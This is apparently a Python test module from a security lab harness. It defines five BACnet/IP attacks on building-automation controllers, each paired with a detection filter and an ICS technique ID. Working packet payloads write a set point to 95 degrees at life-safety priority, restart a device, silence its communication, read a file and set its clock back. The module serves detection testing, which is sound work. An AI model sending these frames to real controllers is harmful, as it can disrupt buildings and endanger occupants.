"""Attacks by BACnet/IP (ASHRAE 135, clauses 15, 16, 20 and annex J)."""

from __future__ import annotations

import struct
from collections.abc import Callable

from tests.lab.attacks import wire
from tests.lab.attacks.attack import Aim, Attack

_FROM = " && ip.src == {source} && ip.dst == {target}"
_CONFIRMED = b"\x00\x05\x53"


def _sends(apdu: bytes, expects: bool = True) -> Callable[[Aim], None]:
    npdu = b"\1" + (b"\4" if expects else b"\0")
    body = npdu + apdu
    return lambda aim: wire.udp(aim, b"\x81\x0a" + struct.pack(">H", 4 + len(body)) + body)


def _write(aim: Aim) -> None:
    """The set point's present value, at the priority of manual life safety."""
    object_ = (2 << 22 | aim.number("setpoint")).to_bytes(4)
    value = b"\x19\x55\x3e\x44" + struct.pack(">f", 95.0) + b"\x3f\x49\x01"
    _sends(_CONFIRMED + b"\x0f\x0c" + object_ + value)(aim)


def _files(aim: Aim) -> None:
    object_ = (10 << 22 | 1).to_bytes(4)
    _sends(_CONFIRMED + b"\x06\x0c" + object_ + b"\x0e\x31\x00\x21\x64\x0f")(aim)


ATTACKS = (
    Attack(
        "bacnet set point written",
        "Writes 95 degrees at the highest priority",
        "bacnet",
        ("T0836",),
        "value",
        "bacapp.confirmed_service == 15 && frame contains 42:be:00:00" + _FROM,
        _write,
    ),
    Attack(
        "bacnet device restarted",
        "Reinitialises a controller",
        "bacnet",
        ("T0816",),
        "engineering operation",
        "bacapp.confirmed_service == 20" + _FROM,
        _sends(_CONFIRMED + b"\x14\x09\x00"),
    ),
    Attack(
        "bacnet silenced",
        "Disables a controller's communication",
        "bacnet",
        ("T0814",),
        "engineering operation",
        "bacapp.confirmed_service == 17" + _FROM,
        _sends(_CONFIRMED + b"\x11\x09\x01\x19\x01"),
    ),
    Attack(
        "bacnet file read",
        "Reads a file of a controller",
        "bacnet",
        ("T0845",),
        "engineering operation",
        "bacapp.confirmed_service == 6" + _FROM,
        _files,
    ),
    Attack(
        "bacnet clock set",
        "Sets a controller's clock back",
        "bacnet",
        ("T0872",),
        "operation",
        "bacapp.unconfirmed_service == 6" + _FROM,
        _sends(b"\x10\x06\xa4\x78\1\1\6\xb4\0\0\0\0", expects=False),
    ),
)
